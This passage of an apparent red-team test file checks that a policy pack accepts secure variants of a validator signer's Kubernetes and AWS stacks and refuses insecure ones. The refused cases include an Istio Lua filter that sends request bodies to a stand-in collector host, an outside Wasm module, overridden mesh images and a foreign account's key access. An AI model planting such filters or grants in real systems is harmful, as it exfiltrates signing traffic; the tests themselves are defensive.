        name: "cert-manager: a self-signed root, a CA ClusterIssuer and a Certificate for the signer's metrics endpoint in validators (ECDSA, rotated on renewal)",
        edit: certManagerMetricsTls,
    },
    {
        stack: "prod",
        name: "a Prometheus Operator ServiceMonitor on the signer's metrics Service and a PrometheusRule paging on signing errors and DynamoDB throttling",
        edit: signerMonitoring,
    },
    {
        stack: "prod",
        name: "a slashing-protection PostgreSQL StatefulSet beside the signer in validators (its own ServiceAccount, gp3 encrypted claim template, PDB)",
        edit: r => slashingDb(r),
    },
    {
        stack: "prod",
        name: "a VerticalPodAutoscaler recommending (updateMode Off) for the slashing-protection StatefulSet",
        edit: r => {
            slashingDb(r);
            k8s(r, "kubernetes:autoscaling.k8s.io/v1:VerticalPodAutoscaler", "validators-slashing-db-vpa", {
                apiVersion: "autoscaling.k8s.io/v1",
                kind: "VerticalPodAutoscaler",
                metadata: { name: "slashing-db", namespace: "validators" },
                spec: {
                    targetRef: { apiVersion: "apps/v1", kind: "StatefulSet", name: "slashing-db" },
                    updatePolicy: { updateMode: "Off" },
                },
            });
        },
    },
    {
        stack: "pod-identity",
        name: "the CloudWatch observability add-on on Pod Identity (role of the stack, CloudWatchAgentServerPolicy + AWSXrayWriteOnlyAccess listed) and the Pod Identity agent add-on",
        edit: r => cloudwatchObservability(r, false),
        readable: [CW_AGENT_POLICY, XRAY_POLICY],
    },
    {
        stack: "pod-identity",
        preview: true,
        name: "the same CloudWatch observability add-on in a first preview (its association's roleArn the unknown ARN of its role of the stack)",
        edit: r => cloudwatchObservability(r, true),
        readable: [CW_AGENT_POLICY, XRAY_POLICY],
    },
    {
        stack: "prod",
        name: "the signer's application log group under a key of the stack dedicated to it (logs pinned by the log group's encryption context, 180-day rotation)",
        edit: r => signerLogGroup(r, false),
    },
    {
        // Was a MISS (fixed in round 28): the log key is dedicated at `up` (the case above passes), but in a first
        // preview its arn/keyId are unknown and the log group's kmsKeyId is recorded as coming from it
        // (propertyDependencies): the pack did not resolve the dependency, so the logs service's grant (pinned by
        // kms:EncryptionContext:aws:logs:arn, CloudWatch Logs user guide "Encrypt log data using AWS KMS") made the key
        // custody and "no workload has this principal". engine/judge.ts keyNamedBy now resolves an unknown reference of
        // a DEDICATING_KEY_PROPS use through model/resources.ts linkedByDependency, as roles are (round 26).
        stack: "prod",
        preview: true,
        name: "the same dedicated log key and log group in a first preview (the key's ARN, the alias target and the log group's kmsKeyId unknown)",
        edit: r => signerLogGroup(r, true),
    },
    {
        stack: "prod",
        name: "an EventBridge rule on KMS key-management calls (ScheduleKeyDeletion, DisableKey, PutKeyPolicy, CreateGrant...) to an SNS topic of the stack, with a FailedInvocations alarm",
        edit: r => keyEventAlarms(r, false),
    },
    {
        stack: "prod",
        preview: true,
        name: "the same key-event alarms in a first preview (topic, rule ARN, topic policy, target and alarm actions unknown, from the stack's topic and rule)",
        edit: r => keyEventAlarms(r, true),
    },
    {
        stack: "prod",
        name: "the share keys and the tables' CMK on a 90-day rotation period (rotationPeriodInDays) with explicit multiRegion false and no lockout bypass",
        edit: r => {
            for (const x of r.filter(k => k.type === KEY)) {
                setProp(x, "rotationPeriodInDays", 90);
                setProp(x, "multiRegion", false);
                setProp(x, "bypassPolicyLockoutSafetyCheck", false);
            }
        },
    },
    {
        stack: "prod",
        preview: true,
        name: "a guard resource policy on the keystore in a first preview (only the deployer administers; resourceArn and document unknown, from the table)",
        edit: r => keystoreGuard(r, true),
    },
];

const insecure: Case[] = [
    {
        stack: "prod",
        name: "a Deployment in apps meshed by Linkerd with the proxy image overridden (config.linkerd.io/proxy-image)",
        edit: r => {
            namespace(r, "apps");
            serviceAccount(r, "apps", "reports-api");
            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
                "linkerd.io/inject": "enabled",
                "config.linkerd.io/proxy-image": "registry.example.net/proxy",
            });
        },
        refused: /Deployment apps\/reports-api: annotation (linkerd\.io\/inject|config\.linkerd\.io\/proxy-image)/,
    },
    {
        stack: "prod",
        name: "the dedicated log key also decrypted directly by the signer's inline policy (no kms:ViaService: the key is then custody)",
        edit: r => signerLogGroup(r, false, true),
        refused: /custody-prod-signer.*signer-logs/,
    },
    {
        stack: "prod",
        preview: true,
        name: "the keystore's guard resource policy in a first preview (document written with the table's literal ARN) also allowing account 999999999999's root GetItem and Query",
        edit: r => keystoreGuard(r, true, true),
        refused: /keystore|999999999999|unverifiable|unknown/,
    },
    // ---- Round 28 neighbours of the fixed MISSes (insecure: what stays refused beside them).
    {
        stack: "prod",
        name: "an Istio EnvoyFilter inserting a Lua filter into the signer's inbound HTTP chain (networking.istio.io: code the proxy runs)",
        edit: r =>
            k8s(r, "kubernetes:networking.istio.io/v1alpha3:EnvoyFilter", "validators-signer-lua", {
                apiVersion: "networking.istio.io/v1alpha3",
                kind: "EnvoyFilter",
                metadata: { name: "signer-lua", namespace: "validators" },
                spec: {
                    workloadSelector: { labels: { "app.kubernetes.io/name": "containment-chamber" } },
                    configPatches: [
                        {
                            applyTo: "HTTP_FILTER",
                            match: {
                                context: "SIDECAR_INBOUND",
                                listener: {
                                    filterChain: {
                                        filter: {
                                            name: "envoy.filters.network.http_connection_manager",
                                            subFilter: { name: "envoy.filters.http.router" },
                                        },
                                    },
                                },
                            },
                            patch: {
                                operation: "INSERT_BEFORE",
                                value: {
                                    name: "envoy.lua",
                                    typed_config: {
                                        "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
                                        inlineCode:
                                            'function envoy_on_request(h) h:httpCall("exfil", {[":method"]="POST", [":path"]="/", [":authority"]="collector.example.net"}, h:body():getBytes(0, h:body():length()), 1000) end',
                                    },
                                },
                            },
                        },
                    ],
                },
            }),
        refused: /networking\.istio\.io\/v1alpha3:EnvoyFilter validators-signer-lua is a custom resource/,
    },
    {
        stack: "prod",
        name: "an Istio WasmPlugin pulling a module from an outside registry into the signer's proxy (extensions.istio.io)",
        edit: r =>
            k8s(r, "kubernetes:extensions.istio.io/v1alpha1:WasmPlugin", "validators-signer-wasm", {
                apiVersion: "extensions.istio.io/v1alpha1",
                kind: "WasmPlugin",
                metadata: { name: "signer-wasm", namespace: "validators" },
                spec: {
                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
                    url: "oci://registry.example.net/filters/headers:1.0",
                    phase: "AUTHN",
                },
            }),
        refused: /extensions\.istio\.io\/v1alpha1:WasmPlugin validators-signer-wasm is a custom resource/,
    },
    {
        stack: "prod",
        name: "a Deployment in apps meshed by Linkerd with its init container's image overridden (config.linkerd.io/init-image)",
        edit: r => {
            namespace(r, "apps");
            serviceAccount(r, "apps", "reports-api");
            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
                "linkerd.io/inject": "enabled",
                "config.linkerd.io/proxy-cpu-request": "50m",
                "config.linkerd.io/init-image": "registry.example.net/proxy-init",
            });
        },
        refused: /Deployment apps\/reports-api: annotation config\.linkerd\.io\/init-image is not known to be inert/,
    },
    {
        stack: "prod",
        name: "a Deployment in apps with Linkerd in ingress mode (linkerd.io/inject: ingress)",
        edit: r => {
            namespace(r, "apps");
            serviceAccount(r, "apps", "reports-api");
            restrictedDeployment(r, "apps", "reports-api", "reports-api", { "linkerd.io/inject": "ingress" });
        },
        refused: /Deployment apps\/reports-api: annotation linkerd\.io\/inject: "ingress" \(enabled or disabled/,
    },
    {
        stack: "prod",
        preview: true,
        name: "the dedicated log key in a first preview, its log group's unknown kmsKeyId a random.RandomShuffle's pick of key ARNs (the log group also dependsOn the key)",
        edit: r => signerLogGroup(r, true, false, "shuffle"),
        refused: /service logs\.eu-west-1\.amazonaws\.com .*key alias\/custody-infra\/prod\/signer-logs/,
    },
    {
        stack: "prod",
        preview: true,
        name: "the dedicated log key in a first preview, its log group's unknown kmsKeyId depending on nothing of the stack",
        edit: r => signerLogGroup(r, true, false, "nothing"),
        refused: /service logs\.eu-west-1\.amazonaws\.com .*key alias\/custody-infra\/prod\/signer-logs/,
    },
    {
        stack: "prod",
        preview: true,
        name: "the dedicated log key in a first preview also decrypted directly by the signer's inline policy (Resource *, no kms:ViaService)",
        edit: r => signerLogGroup(r, true, true),
        refused: /custody-prod-signer.*signer-logs/,
    },
];

describe("red-team round 28: secure variants of the committed stacks (false positives) and insecure neighbours", function () {
    this.timeout(120000);
    for (const c of secure)
        (c.skip ? it.skip : it)(`accepts: ${c.stack}: ${c.name}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            assertClean(await runPack(c.stack, r, { readable: c.readable }));
        });
    for (const c of insecure)
        (c.skip ? it.skip : it)(`refuses: ${c.stack}: ${c.name}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            assertRefused(await runPack(c.stack, r, { readable: c.readable }), c.refused ?? /./, c.policy);
        });
});
